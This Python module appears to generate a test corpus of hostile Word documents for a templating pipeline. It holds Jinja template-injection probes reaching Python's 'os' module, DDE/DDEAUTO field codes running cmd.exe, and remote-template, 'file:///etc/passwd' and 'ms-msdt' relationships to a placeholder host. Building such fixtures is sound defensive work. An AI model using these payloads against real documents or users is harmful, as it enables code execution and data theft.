"""Templates that want to run something: over two hundred docx files, each made by a few lines.

Two families. *Expressions* stand where Jinja reads; a plain Jinja evaluates them, and `mark` is what it prints then.
*Foreign* ones never touch Jinja: Word, or whatever opens the paper, would fetch or run them.
"""

import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache, partial
from io import BytesIO

from docx import Document

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
VALUES = {"name": "canary", "rows": [{"text": "bird"}]}

# (what stands in the template, what a plain Jinja makes of it)
EXPRESSIONS: tuple[tuple[str, str], ...] = (
    ("{{ 7 * 1111 }}", "7777"), ("{{ name.upper() }}", "CANARY"), ("{{ name|upper }}", "CANARY"), ("{{ name|length * 1000 }}", "6000"),
    ("{{ name.__class__ }}", "class 'str'"), ("{{ ''.__class__.__mro__ }}", "class 'object'"), ("{{ name['__class__'] }}", "class 'str'"),
    ("{{ name|attr('__class__') }}", "class 'str'"), ("{{ ''.__class__.__base__.__subclasses__()|length > 1 }}", "True"),
    ("{{ self.__init__.__globals__.__name__ }}", "jinja2.runtime"), ("{{ cycler.__init__.__globals__.os.name }}", "posix"),
    ("{{ joiner.__init__.__globals__.os.name }}", "posix"), ("{{ namespace.__init__.__globals__.__name__ }}", "jinja2.utils"),
    ("{{ lipsum.__globals__['os'].name }}", "posix"), ("{{ '{0.__class__}'.format(name) }}", "class 'str'"), ("{{ '%s-77' % name }}", "canary-77"),
    ("{{ '{:>9}'.format(name) }}", "   canary"), ("{{ 'ca' ~ 'NARY' }}", "caNARY"), ("{{ name[::-1] }}", "yranac"), ("{{ name.replace('c', 'k') }}", "kanary"),
    ("{{ [1, 2, 3]|sum * 1000 }}", "6000"), ("{{ range(3)|list }}", "[0, 1, 2]"), ("{{ dict(a=7)['a'] * 1001 }}", "7007"), ("{{ rows[0]['text']|title }}", "Bird"),
    ("{{ rows|map(attribute='text')|join|upper }}", "BIRD"), ("{{ rows|tojson }}", "&#34;text&#34;|\"text\""), ("{{ 'yes77' if name else 'no' }}", "yes77"),
    ("{{ name is string }}", "True"), ("{{ 'can' in name }}", "True"), ("{{ name == 'canary' }}", "True"), ("{{ not name }}", "False"), ("{{ -7777 }}", "-7777"),
    ("{{ 7777 }}", "7777"), ("{{ '77' + '77' }}", "7777"), ("{{ true }}", "True"), ("{{ none }}", "None"), ("{{ name.encode() }}", "b'canary'|b&#39;canary"),
    ("{% set x = 7777 %}{{ x }}", "7777"), ("{% macro m() %}7777{% endmacro %}{{ m() }}", "7777"), ("{% filter upper %}canary{% endfilter %}", "CANARY"),
    ("{% with x = 7777 %}{{ x }}{% endwith %}", "7777"), ("{% for i in range(3) %}k{{ i }}{% endfor %}", "k0k1k2"), ("{% if 7 > 1 %}ran77{% endif %}", "ran77"),
    ("{% raw %}{{ name }}{% endraw %}", "{{ name }}"), ("{% call name.upper() %}{% endcall %}", "TypeError"), ("{% if name == 'canary' %}ran77{% endif %}", "ran77"),
    ("{% for row in rows if row.text %}{{ row.text|upper }}{% endfor %}", "BIRD"), ("{% for row in rows %}{{ loop.index + 7776 }}{% endfor %}", "7777"),
    ("{% for row in rows %}{{ row.items() }}{% endfor %}", "dict_items"), ("{% for row in rows %}{{ row.__class__ }}{% endfor %}", "class 'dict'"),
    ("a{# gone #}77", "a77"), ("{%- if name -%} ran77 {%- endif -%}", "ran77"), ("{{- name|upper -}}", "CANARY"), ("{{ name|default('x')|e|upper }}", "CANARY"),
    ("{% include 'other' %}", "TypeError"), ("{% extends 'other' %}", "TypeError"), ("{% import 'other' as o %}", "TypeError"),
)  # fmt: skip


@dataclass(frozen=True)
class Payload:
    """One hostile template. `mark`: what an evaluation would leave in the text, '' for a foreign one."""

    label: str
    make: Callable[[], bytes]
    mark: str = ""

    @property
    def content(self) -> bytes:
        """The docx, made when it is asked for."""
        return self.make()


def saved(build: Callable[[Document], None]) -> bytes:
    """A document as Word would save it."""
    document, buffer = Document(), BytesIO()
    build(document)
    document.save(buffer)
    return buffer.getvalue()


def in_body(text: str) -> Callable[[Document], None]:
    return lambda document: document.add_paragraph(text)


def in_pieces(text: str) -> Callable[[Document], None]:
    """Each sign in a run of its own, every second one bold: what Word leaves after editing."""

    def build(document: Document) -> None:
        paragraph = document.add_paragraph()
        for place, sign in enumerate(text):
            paragraph.add_run(sign).bold = bool(place % 2)

    return build


def in_cell(text: str) -> Callable[[Document], None]:
    return lambda document: setattr(document.add_table(1, 1).cell(0, 0), "text", text)


def in_footer(text: str) -> Callable[[Document], None]:
    return lambda document: setattr(document.sections[0].footer.paragraphs[0], "text", text)


PLACES = {"body": in_body, "pieces": in_pieces, "cell": in_cell, "footer": in_footer}


@cache
def plain() -> bytes:
    """A letter with one field."""
    return saved(in_body("plain {{ name }}"))


def with_parts(*, body: str = "", parts: dict[str, bytes] | None = None, relations: str = "") -> bytes:
    """A plain document with raw markup in its body, more parts, and more relations of the main part."""
    source, buffer = BytesIO(plain()), BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            raw = old.read(name)
            if name == "word/document.xml":
                raw = raw.replace(b"<w:sectPr", body.encode() + b"<w:sectPr", 1)
            if name == "word/_rels/document.xml.rels":
                raw = raw.replace(b"</Relationships>", relations.encode() + b"</Relationships>")
            new.writestr(name, raw)
        for name, raw in (parts or {}).items():
            new.writestr(name, raw)
    return buffer.getvalue()


def field(*pieces: str) -> str:
    """A field whose code is spread over several runs."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    begin, rest = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return f"<w:p>{begin}{runs}{rest}</w:p>"


CODES = (
    "INCLUDETEXT \"http://192.0.2.1/a.docx\"", "INCLUDEPICTURE \"http://192.0.2.1/a.png\" \\d", "DDE cmd /c calc", "DDEAUTO c:\\\\cmd.exe \"/k calc\"",
    "LINK Excel.Sheet.8 \"\\\\192.0.2.1\\a.xlsx\"", "IMPORT \"http://192.0.2.1/a\"", "MACROBUTTON Run x", "HYPERLINK \"http://192.0.2.1\"", "QUOTE 68 68 69",
    "MERGEFIELD name", "DATABASE \\d \"x\"", "AUTOTEXT x", "ASK x \"y\"", "FILLIN \"y\"", "IF 1 = 1 \"a\" \"b\"", "SET a 1", "REF a", "EMBED Word.Document.8",
    "PRINT \"x\"", "GLOSSARY x", "RD \"http://192.0.2.1/a\"", "DOCVARIABLE x", "DOCPROPERTY x", "USERNAME", "FILENAME \\p", "GOTOBUTTON a b", "PAGE {{ name }}",
    "= 7 * 1111", "INCLUDE a", "FTREF a",
)  # fmt: skip


def relation(kind: str, target: str, external: bool = True, base: str = RELS) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rIdX" Type="{base}/{kind}" Target="{target}"{mode}/>'


OUTSIDE = ("http://192.0.2.1/a.dotm", "https://192.0.2.1/a", "file:///etc/passwd", "\\\\192.0.2.1\\share\\a.dotm", "mhtml:http://192.0.2.1/a!x", "ms-msdt:/id x")
KINDS = ("attachedTemplate", "oleObject", "image", "hyperlink", "subDocument", "frame", "mailMergeSource", "aFChunk")


def expressions() -> Iterator[Payload]:
    """Every expression in four places."""
    for text, mark in EXPRESSIONS:
        for place, build in PLACES.items():
            yield Payload(f"{place}: {text}", partial(saved, build(text)), mark)


def fields() -> Iterator[Payload]:
    """Field codes: whole, split over runs, as a simple field, nested, as plain text within the code."""
    for code in CODES:
        safe = code.replace("&", "&amp;").replace('"', "&quot;")
        yield Payload(f"field: {code}", partial(with_parts, body=field(safe)))
        if "{{" not in code:
            yield Payload(f"split field: {code}", partial(with_parts, body=field(safe[:1], safe[1:4], safe[4:])))
            yield Payload(f"simple field: {code}", partial(with_parts, body=f'<w:p><w:fldSimple w:instr="{safe}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'))
    begin, end = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    yield Payload("nested field", partial(with_parts, body=f'<w:p>{begin}<w:r><w:instrText>PAGE</w:instrText></w:r>{begin}<w:r><w:instrText>INCLUDETEXT a</w:instrText></w:r>{end}{end}</w:p>'))
    yield Payload("plain text as code", partial(with_parts, body=f"<w:p>{begin}<w:r><w:t>INCLUDETEXT a</w:t></w:r>{end}</w:p>"))
    yield Payload("field without end", partial(with_parts, body=f"<w:p>{begin}<w:r><w:instrText>INCLUDETEXT a</w:instrText></w:r></w:p>"))
    yield Payload("code without field", partial(with_parts, body="<w:p><w:r><w:instrText>INCLUDETEXT a</w:instrText></w:r></w:p>"))
    yield Payload("deleted code", partial(with_parts, body=f"<w:p>{begin}<w:r><w:delInstrText>INCLUDETEXT a</w:delInstrText></w:r>{end}</w:p>"))


def foreign() -> Iterator[Payload]:
    """Relations to outside, embedded things, chunks, macros under another name."""
    for kind in KINDS:
        for target in OUTSIDE:
            yield Payload(f"{kind} to {target}", partial(with_parts, relations=relation(kind, target)))
    for kind in ("oleObject", "package", "control", "aFChunk", "subDocument", "vbaProject", "keyMapCustomizations", "attachedToolbars"):
        name = f"word/{kind}.xml"
        yield Payload(f"embedded {kind}", partial(with_parts, parts={name: b"<a/>"}, relations=relation(kind, f"{kind}.xml", external=False)))
    for name, raw in (
        ("word/vbaProject.bin", b"x"), ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), ("word/embeddings/a.bin", b"plain"),
        ("word/activeX/activeX1.bin", b"x"), ("word/afchunk.mht", b"MIME-Version: 1.0"), ("word/afchunk.html", b"<html/>"), ("word/afchunk.rtf", b"{\\rtf1}"),
        ("word/embeddings/a.docx", b"PK\x03\x04"), ("word/a.exe", b"MZ"), ("word/settings2.lnk", b"x"), ("customUI/customUI.xml", b'<customUI onLoad="Run"/>'),
    ):  # fmt: skip
        yield Payload(f"part {name}", partial(with_parts, parts={name: raw}))
    markup = (
        f'<w:altChunk r:id="rIdX" xmlns:r="{RELS}"/>', f'<w:subDoc r:id="rIdX" xmlns:r="{RELS}"/>',
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Package"/></w:object></w:r></w:p>',
        '<w:p><w:r><w:control w:name="x"/></w:r></w:p>', '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="Run"/></w:ffData></w:fldChar></w:r></w:p>',
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="http://192.0.2.1"/></w:pict></w:r></w:p>',
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="file://192.0.2.1/a"/></v:shape></w:pict></w:r></w:p>',
    )  # fmt: skip
    for number, text in enumerate(markup):
        yield Payload(f"markup {number}", partial(with_parts, body=text))
    macro = partial(with_parts, parts={"word/vbaProject.bin": b"x"})
    yield Payload("docm renamed", macro)


def all_payloads() -> list[Payload]:
    """Everything."""
    return [*expressions(), *fields(), *foreign()]
